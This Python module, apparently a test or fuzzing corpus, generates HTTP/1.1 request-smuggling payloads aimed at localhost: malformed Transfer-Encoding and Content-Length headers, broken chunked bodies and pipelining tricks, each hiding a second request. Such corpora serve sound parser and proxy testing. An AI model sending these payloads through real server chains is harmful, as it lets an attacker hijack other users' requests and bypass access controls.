"""Bytes that two servers in a row may split into requests in different ways (RFC 9112 §11.2)."""

from typing import Final

HIDDEN: Final = b"GET /api/profile/smuggled HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: smuggled\r\n\r\n"
"""What whoever sends them hopes that only the second server takes for a request."""

_PREFIX: Final = b"GET /api/profile/smuggled HTTP/1.1\r\nHost: localhost\r\nX-Request-ID: smuggled\r\nX-Rest: "
"""The same without its end, so that the next client's request becomes a field of it."""

_TARGET: Final = b"/api/profile/user123"


def _request(*fields: bytes, body: bytes = b"", method: bytes = b"POST", ending: bytes = b"\r\n") -> bytes:
    head = ending.join((b"%b %b HTTP/1.1" % (method, _TARGET), b"Host: localhost", *fields, b"", b""))
    return head + body


def _chunked(*data: bytes) -> bytes:
    return b"".join(b"%x\r\n%b\r\n" % (len(one), one) for one in data) + b"0\r\n\r\n"


def _codings() -> dict[str, bytes]:
    """Ways to write a transfer coding that one server knows, and another one does not."""
    return {
        "plain": b"Transfer-Encoding: chunked",
        "space before colon": b"Transfer-Encoding : chunked",
        "tab before colon": b"Transfer-Encoding\t: chunked",
        "no space": b"Transfer-Encoding:chunked",
        "tab": b"Transfer-Encoding:\tchunked",
        "vertical tab": b"Transfer-Encoding:\x0bchunked",
        "form feed": b"Transfer-Encoding:\x0cchunked",
        "no-break space": b"Transfer-Encoding:\xa0chunked",
        "nul": b"Transfer-Encoding: chunked\x00",
        "trailing space": b"Transfer-Encoding: chunked ",
        "quoted": b'Transfer-Encoding: "chunked"',
        "capitals": b"TRANSFER-ENCODING: CHUNKED",
        "prefixed": b"Transfer-Encoding: xchunked",
        "list": b"Transfer-Encoding: gzip, chunked",
        "list that ends otherwise": b"Transfer-Encoding: chunked, identity",
        "empty members": b"Transfer-Encoding: , chunked,",
        "parameter": b"Transfer-Encoding: chunked;q=1",
        "two fields": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "two fields, turned": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        "twice": b"Transfer-Encoding: chunked\r\nTransfer-encoding: chunked",
        "folded": b"Transfer-Encoding:\r\n chunked",
        "folded with a tab": b"Transfer-Encoding:\r\n\tchunked",
        "behind a folded line": b"X: y\r\n Transfer-Encoding: chunked",
        "behind a bare LF": b"X: y\nTransfer-Encoding: chunked",
        "behind a bare CR": b"X: y\rTransfer-Encoding: chunked",
        "behind a doubled CR": b"X: y\r\r\nTransfer-Encoding: chunked",
        "leading space": b" Transfer-Encoding: chunked",
        "underscore": b"Transfer_Encoding: chunked",
        "named by Connection": b"Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
    }


def _lengths() -> dict[str, bytes]:
    """Lengths of a body, where ``%d`` stands, that servers may read in different ways."""
    return {
        "twice": b"Content-Length: %d\r\nContent-Length: 0",
        "twice, turned": b"Content-Length: 0\r\nContent-Length: %d",
        "twice the same": b"Content-Length: %d\r\nContent-Length: %d",
        "list": b"Content-Length: %d, %d",
        "list of two": b"Content-Length: 0, %d",
        "plus": b"Content-Length: +%d",
        "minus": b"Content-Length: -%d",
        "zero before": b"Content-Length: 0%d",
        "hexadecimal": b"Content-Length: 0x%x",
        "space before colon": b"Content-Length : %d",
        "space within": b"Content-Length: 1 %d",
        "fraction": b"Content-Length: %d.0",
        "folded": b"Content-Length:\r\n %d",
        "behind a bare LF": b"X: y\nContent-Length: %d",
        "behind a bare CR": b"X: y\rContent-Length: %d",
        "nul": b"Content-Length: %d\x00",
        "underscore": b"Content_Length: %d",
        "huge": b"Content-Length: 18446744073709551616%d",
        "named by Connection": b"Connection: content-length\r\nContent-Length: %d",
    }


def _bodies() -> dict[str, bytes]:
    """Chunked bodies that may end earlier for one server than for another."""
    size = b"%x" % len(HIDDEN)
    return {
        "extension": b"1;a=b\r\nZ\r\n0;c\r\n\r\n" + HIDDEN,
        "extension with a bare LF": b"1;\nZ\r\n0\r\n\r\n" + HIDDEN,
        "extension with a bare CR": b"1;a\rb\r\nZ\r\n0\r\n\r\n" + HIDDEN,
        "extension that hides a chunk": b"2;\nxx\r\n" + size + b"\r\n0\r\n\r\n" + HIDDEN,
        "quoted extension": b'1;a="\r\nZ\r\n0\r\n\r\n' + HIDDEN + b'"\r\n0\r\n\r\n',
        "bare LF after the size": b"1\nZ\r\n0\r\n\r\n" + HIDDEN,
        "bare LF after the data": b"1\r\nZ\n0\r\n\r\n" + HIDDEN,
        "bare CR after the size": b"1\rZ\r\n0\r\n\r\n" + HIDDEN,
        "two bytes after the data": b"1\r\nZxx0\r\n\r\n" + HIDDEN,
        "nothing after the data": b"1\r\nZ0\r\n\r\n" + HIDDEN,
        "size with 0x": b"0x1\r\nZ\r\n0\r\n\r\n" + HIDDEN,
        "size with a sign": b"+1\r\nZ\r\n-0\r\n\r\n" + HIDDEN,
        "negative size": b"-1\r\n\r\n" + HIDDEN,
        "size with an underscore": b"0_1\r\nZ\r\n0\r\n\r\n" + HIDDEN,
        "size with a space": b"1 \r\nZ\r\n0 \r\n\r\n" + HIDDEN,
        "size after a space": b" 1\r\nZ\r\n 0\r\n\r\n" + HIDDEN,
        "long size": b"0" * 40 + b"1\r\nZ\r\n0\r\n\r\n" + HIDDEN,
        "size past 64 bits": b"10000000000000000\r\n" + HIDDEN,
        "no size": b"\r\nZ\r\n0\r\n\r\n" + HIDDEN,
        "end without its empty line": b"0\r\n" + HIDDEN,
        "end with bare LFs": b"0\n\n" + HIDDEN,
        "trailer": b"0\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n" + HIDDEN,
        "trailer with a bare LF": b"0\r\nX: y\n\r\n" + HIDDEN,
        "hidden in the data": _chunked(HIDDEN),
        "twice ended": b"0\r\n\r\n0\r\n\r\n" + HIDDEN,
    }


def _others() -> dict[str, bytes]:
    """Methods, targets, versions, ends of lines, and what stands before or between requests."""
    length = b"Content-Length: %d" % len(HIDDEN)
    chunked = b"Transfer-Encoding: chunked"
    return {
        "pipelined": _request(method=b"GET") + HIDDEN,
        "pipelined behind a body": _request(length, body=HIDDEN) + HIDDEN,
        "unfinished prefix": _request(b"Content-Length: 0") + _PREFIX,
        "GET with a body": _request(length, method=b"GET", body=HIDDEN),
        "GET with chunks": _request(chunked, method=b"GET", body=_chunked(HIDDEN)),
        "HEAD with a body": _request(length, method=b"HEAD", body=HIDDEN),
        "DELETE with chunks": _request(chunked, method=b"DELETE", body=_chunked(HIDDEN)),
        "OPTIONS with a body": _request(length, method=b"OPTIONS", body=HIDDEN),
        "body before the answer to Expect": _request(length, b"Expect: 100-continue", body=HIDDEN),
        "chunks before the answer to Expect": _request(chunked, b"Expect: 100-continue", body=_chunked(HIDDEN)),
        "odd expectation": _request(length, b"Expect: 100-continue, x", body=HIDDEN),
        "upgrade": _request(length, b"Connection: upgrade", b"Upgrade: h2c", body=HIDDEN),
        "websocket": _request(
            b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Version: 13", method=b"GET"
        )
        + HIDDEN,
        "CONNECT": b"CONNECT localhost:443 HTTP/1.1\r\nHost: localhost:443\r\n\r\n" + HIDDEN,
        "TRACE": _request(length, method=b"TRACE", body=HIDDEN),
        "HTTP/1.0 with chunks": _request(chunked, body=_chunked(HIDDEN)).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
        "HTTP/1.0 kept alive": _request(b"Connection: keep-alive", length, body=HIDDEN).replace(b"1.1", b"1.0", 1),
        "HTTP/0.9": b"GET /api/profile/user123\r\n" + HIDDEN,
        "HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + HIDDEN,
        "absolute target": b"GET http://elsewhere/api/profile/user123 HTTP/1.1\r\nHost: localhost\r\n\r\n" + HIDDEN,
        "absolute target with a body": _request(length, body=HIDDEN).replace(b" /", b" http://localhost/", 1),
        "target with a line in it": b"GET /api/profile/user123%0d%0aX-Request-ID:smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
        "target with a space": b"GET /api/profile/user123 HTTP/1.1 x HTTP/1.1\r\nHost: x\r\n\r\n" + HIDDEN,
        "target with a tab": b"GET /api/profile/user123\tHTTP/1.1 HTTP/1.1\r\nHost: x\r\n\r\n" + HIDDEN,
        "version with a space": b"GET /api/profile/user123 HTTP/1.1 \r\nHost: x\r\n\r\n" + HIDDEN,
        "bare LFs": _request(length, body=HIDDEN, ending=b"\n"),
        "bare CRs": _request(length, body=HIDDEN, ending=b"\r"),
        "empty lines before": b"\r\n\r\n" + _request(length, body=HIDDEN),
        "bare LF before": b"\n" + _request(method=b"GET") + HIDDEN,
        "two hosts": _request(b"Host: elsewhere", length, body=HIDDEN),
        "two hosts in one": _request(length, body=HIDDEN).replace(b"localhost", b"localhost, elsewhere", 1),
        "no host": _request(length, body=HIDDEN).replace(b"Host: localhost\r\n", b"", 1),
        "field without colon": _request(b"Nothing", length, body=HIDDEN),
        "field without name": _request(b": nothing", length, body=HIDDEN),
        "nul in a field": _request(b"X: a\x00b", length, body=HIDDEN),
        "line in a field": _request(b"X: a\r\n\r\n" + HIDDEN[:-2], method=b"GET"),
        "close": _request(b"Connection: close", method=b"GET") + HIDDEN,
        "close in a list": _request(b"Connection: keep-alive, close", method=b"GET") + HIDDEN,
        "address and more": _request(b"X-Forwarded-For: 1.2.3.4\r\n\tX-Request-ID: smuggled", method=b"GET") + HIDDEN,
    }


def payloads() -> dict[str, bytes]:
    """All of them by what they are."""
    return {
        **{f"CL.TE, {name}": _request(_length(b"0\r\n\r\n" + HIDDEN), one, body=b"0\r\n\r\n" + HIDDEN)
           for name, one in _codings().items()},
        **{f"TE.CL, {name}": _request(one, b"Content-Length: 4", body=_chunked(HIDDEN))
           for name, one in _codings().items()},
        **{f"TE, {name}": _request(one, body=_chunked(b"Z") + HIDDEN) for name, one in _codings().items()},
        **{f"length, {name}": _request(one.replace(b"%d", b"%d" % len(HIDDEN)).replace(b"%x", b"%x" % len(HIDDEN)),
                                       body=HIDDEN) for name, one in _lengths().items()},
        **{f"chunks, {name}": _request(b"Transfer-Encoding: chunked", body=one) for name, one in _bodies().items()},
        **_others(),
    }  # fmt: skip


def _length(body: bytes) -> bytes:
    return b"Content-Length: %d" % len(body)
